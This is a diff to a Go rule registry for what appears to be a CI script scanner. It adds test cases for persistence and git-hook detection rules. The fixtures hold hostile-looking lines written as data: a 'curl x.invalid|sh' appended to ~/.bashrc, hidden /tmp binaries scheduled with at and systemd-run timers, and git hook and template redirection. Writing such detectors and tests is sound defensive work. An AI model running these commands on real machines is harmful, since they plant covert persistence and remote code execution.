@@ -293,6 +293,9 @@ var registry = []Rule{
 		"it outlives this job: the next job on the runner, another project's included, runs it too", []Case{
 			{"x.sh", "echo 'curl x.invalid|sh' >> ~/.bashrc", 0, false},
 			{"x.sh", "sudo cp agent.service /etc/systemd/system/agent.service", 0, false},
+			{"x.sh", "echo '/tmp/.u' | at now + 10 minutes", 0, false},
+			{"x.sh", "systemd-run --user --on-calendar='*:0/10' /tmp/.cache/u", 0, false},
+			{"x.sh", "echo \"look at now what happened\"", 0, true},
 			// A tree under a prefix is not the system's: read or named, not installed.
 			{"install.sh", "p_sh=$NIX_LINK/etc/profile.d/nix.sh\n. \"$nix/etc/profile.d/nix.sh\"", 0, true},
 			{"Makefile", "install:\n\tinstall -m644 t.service $(DESTDIR)/etc/systemd/system/t.service", 0, true},
@@ -512,6 +515,7 @@ var registry = []Rule{
 	{"git-hooks", KindScript, High, "points git at hooks the change ships",
 		"every later git command on the runner runs the change's own scripts", []Case{
 			{"x.sh", "git config core.hooksPath .githooks", 0, false},
+			{"x.sh", "git config --global init.templateDir ~/.git-template", 0, false},
 		}},
 	{"git-config-exec", KindExecute, High, "configures a command git runs by itself (filter, textconv, fsmonitor, ssh)",
 		"git runs the configured command on checkout, diff or fetch, without anyone calling it", []Case{
